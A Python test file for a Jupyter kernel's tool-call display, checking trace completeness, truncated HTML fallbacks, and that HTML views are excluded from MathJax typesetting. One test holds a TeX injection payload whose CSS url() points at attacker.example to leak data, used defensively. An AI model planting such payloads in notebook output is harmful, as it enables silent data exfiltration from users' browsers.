"""The finished record as a MIME bundle: every call in the trace type, a bounded HTML fallback."""

from __future__ import annotations

from typing import Any

from codemode_kernel.executor import ExecutionResult
from codemode_kernel.views.display import HTML_CALLS, TRACE_MIME, result_bundle


def _calls(count: int) -> list[dict[str, Any]]:
    return [
        {
            "id": f"c{i}",
            "seq": i + 1,
            "server": "weather",
            "tool": "get_weather",
            "arguments": {"city": f"City {i}"},
            "status": "ok",
            "started": 1.0 + i,
            "duration_ms": 1.0,
            "result": {"content": [{"type": "text", "text": "6.1"}], "isError": False},
            "error": None,
            "warnings": [],
        }
        for i in range(count)
    ]


def test_a_long_record_keeps_every_call_in_the_trace_and_counts_the_rest_in_html() -> None:
    result = ExecutionResult(status="ok", execution_id="e", tool_calls=_calls(HTML_CALLS + 50))
    data, metadata = result_bundle(result, code="x = 1")
    assert len(data[TRACE_MIME]["tool_calls"]) == HTML_CALLS + 50
    assert len(metadata[TRACE_MIME]["tool_calls"]) == HTML_CALLS + 50
    html = data["text/html"]
    assert html.count('class="codemode-call"') == HTML_CALLS
    assert "City 199" in html and "City 200" not in html
    assert "… 50 more tool calls" in html
    assert data["text/plain"].startswith(f"codemode: ok, {HTML_CALLS + 50} tool calls")


def test_a_short_record_lists_every_call_in_html() -> None:
    result = ExecutionResult(status="ok", execution_id="e", tool_calls=_calls(3))
    data, _ = result_bundle(result)
    assert data["text/html"].count('class="codemode-call"') == 3
    assert "more tool calls" not in data["text/html"]
    assert "code" not in data[TRACE_MIME]  # only when the program's code is given


def test_tool_text_in_every_html_view_is_never_typeset_as_tex() -> None:
    """JupyterLab typesets HTML outputs with MathJax, whose \\style and \\bbox take CSS url(...): a fetch.

    The HTML fallbacks (a result, the history, the artifact table) mark their root so MathJax skips them.
    """
    from codemode_kernel.artifacts import Artifact
    from codemode_kernel.kernel.history import CellRun
    from codemode_kernel.views.artifacts import listing_html
    from codemode_kernel.views.display import history_bundle

    tex = "$\\style{background:url(http://attacker.example/leak)}{x}$"
    calls = _calls(1)
    calls[0]["result"] = {"content": [{"type": "text", "text": tex}], "isError": False}
    result = ExecutionResult(status="ok", execution_id="e", tool_calls=calls, stdout=tex)
    htmls = [
        result_bundle(result)[0]["text/html"],
        history_bundle([CellRun(1, None, tex, result)], calls)["text/html"],
        listing_html([Artifact("a1", tex, "text/plain", tex, 3, "2026-11-27T00:00:00", "0" * 64, None)]),
    ]
    for html in htmls:
        assert "attacker.example" in html  # the text is shown ...
        root = html[: html.index(">") + 1]
        assert "mathjax_ignore" in root and "tex2jax_ignore" in root, root  # ... never typeset
